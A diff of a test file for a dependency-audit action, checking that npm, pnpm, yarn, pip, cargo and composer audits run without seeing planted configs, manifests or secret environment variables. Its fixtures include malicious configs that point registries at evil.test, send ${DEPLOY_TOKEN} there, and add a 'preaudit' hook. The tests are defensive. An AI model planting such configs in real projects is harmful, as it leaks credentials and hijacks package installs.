@@ -1,4 +1,4 @@
-import { symlinkSync } from 'node:fs';
+import { readdirSync, readFileSync, symlinkSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { dependencyAuditAction } from '../../../../src/app/actions/audit/dependencyAuditAction.ts';
@@ -77,6 +77,19 @@ describe('the action secret-scan', () => {
 });
 
 describe('the action dependency-audit', () => {
+  const TRAPS = ['.npmrc', '.pnpmfile.cjs', '.yarnrc', '.yarnrc.yml', 'pnpm-workspace.yaml', '.cargo', 'setup.py'];
+  const NODE_MANIFEST = {
+    dependencies: { lodash: '1.0.0' },
+    scripts: { preaudit: 'evil' },
+    packageManager: 'pnpm@9.0.0+evil',
+    devEngines: { packageManager: { name: 'evil' } },
+    workspaces: ['evil'],
+    pnpm: { configDependencies: { evil: '1' } },
+  };
+  const COMPOSER_MANIFEST = {
+    require: { 'a/lodash': '1' },
+    repositories: [{ type: 'composer', url: 'https://evil.test' }],
+  };
   const REPORT = {
     vulnerabilities: {
       minimist: {
@@ -99,6 +112,50 @@ describe('the action dependency-audit', () => {
       checked: ['web/package-lock.json, by npm.'],
       skipped: [],
     });
+  });
+
+  it.each([
+    ['npm', 'npm', 'package-lock.json', 'package.json'],
+    ['pnpm', 'pnpm', 'pnpm-lock.yaml', 'package.json'],
+    ['yarn', 'yarn', 'yarn.lock', 'package.json'],
+    ['pip', 'pip-audit', 'requirements.txt', ''],
+    ['cargo', 'cargo-audit', 'Cargo.lock', ''],
+    ['composer', 'composer', 'composer.lock', 'composer.json'],
+  ])('shows %s no other file of the repository, and no keys', async (_tool, program, lock, manifest) => {
+    const stage = new ActionStage();
+    for (const trap of TRAPS) {
+      stage.write(`web/${trap}`, 'registry=https://evil.test/\n//evil.test/:_authToken=${DEPLOY_TOKEN}\n');
+    }
+    stage.write('web/package.json', JSON.stringify(NODE_MANIFEST));
+    stage.write('web/composer.json', JSON.stringify(COMPOSER_MANIFEST));
+    stage.write(`web/${lock}`, 'lodash==1.0\n--index-url https://evil.test/\n');
+    const seen = path.join(stage.root, 'seen');
+    stage.program(program, `{ ls -A; env | cut -d= -f1; } >'${seen}'; cat package.json composer.json >'${seen}.json'`);
+    await dependencyAuditAction.run(
+      {},
+      stage.context({ ANTHROPIC_API_KEY: 'k', DEPLOY_TOKEN: 't', STRIPE_KEY: 's', COMPOSER_AUTH: 'c', HARMLESS: 'h' }),
+    );
+    const lines = readFileSync(seen, 'utf8').split('\n');
+    expect(lines.filter(line => TRAPS.includes(line) || /^(package|composer)\.json$/.test(line))).toEqual(
+      manifest === '' ? [] : [manifest],
+    );
+    expect(lines).toContain(lock);
+    expect(lines).toContain('HARMLESS');
+    expect(lines.filter(line => /KEY|TOKEN|COMPOSER_AUTH/.test(line))).toEqual([]);
+    const given = readFileSync(`${seen}.json`, 'utf8');
+    expect(given).not.toContain('evil');
+    expect(given.includes('lodash')).toBe(manifest !== '');
+    expect(readdirSync(path.join(stage.root, 'home'))).toEqual([]);
+  });
+
+  it('asks nothing when the folder of the user lies in the repository', async () => {
+    const stage = new ActionStage();
+    stage.write('package-lock.json', '{}');
+    stage.program('npm', `touch '${stage.root}/sprung'`);
+    const context = stage.context({ CLAUDE_PANEL_HOME: path.join(stage.folder, 'home') });
+    const found = findingsIn(await dependencyAuditAction.run({}, context));
+    expect(found?.skipped.join()).toContain('its files could steer npm');
+    expect(stage.has('../sprung')).toBe(false);
   });
 
   it('says which tools are missing or could not look, and fails for none of them', async () => {
